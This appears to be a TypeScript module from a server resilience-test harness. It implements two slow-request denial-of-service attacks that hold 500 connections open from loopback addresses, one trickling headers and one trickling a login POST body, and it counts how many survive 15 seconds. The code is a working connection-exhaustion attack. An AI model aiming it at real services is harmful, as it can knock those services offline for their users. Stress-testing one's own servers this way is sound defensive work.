import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Attack, AttackOutcome } from './attack.ts'
import type { Target } from './target.ts'

const sockets = 500
const seconds = 15

/**
 * Opens sockets from as many loopback addresses, which send this and then a letter each second; those still open at the
 * end came through.
 */
async function hold({ url }: Target, start: string): Promise<AttackOutcome> {
  const { hostname: host, port } = new URL(url)
  const open = Array.from({ length: sockets }, (_, index): Socket => {
    const localAddress = `127.0.${1 + (index >> 8)}.${1 + (index & 127)}`
    const socket = connect({ host, port: Number(port), localAddress })
    socket.on('error', () => undefined)
    socket.on('connect', () => socket.write(start))
    socket.resume()
    return socket
  })
  await Promise.allSettled(open.map((socket) => once(socket, 'connect')))
  for (let second = 0; second < seconds; second += 1) {
    for (const socket of open) if (socket.writable) socket.write('a')
    await wait(1000)
  }
  const through = open.filter(({ closed, writable }) => !closed && writable).length
  for (const socket of open) socket.destroy()
  return { tried: sockets, through }
}

const head = ['Host: center.example', 'Content-Type: application/x-www-form-urlencoded', 'Content-Length: 1000']

export const slowBodies: Attack = {
  name: `Connections that send a login letter by letter; one that is still open after ${seconds} s`,
  run: (target) => hold(target, `POST /api/getToken HTTP/1.1\r\n${head.join('\r\n')}\r\n\r\n`)
}

export const slowHeaders: Attack = {
  name: `Connections that send headers letter by letter; one that is still open after ${seconds} s`,
  run: (target) => hold(target, 'GET /api/getApiVersion HTTP/1.1\r\nHost: center.example\r\nX-Slow: ')
}
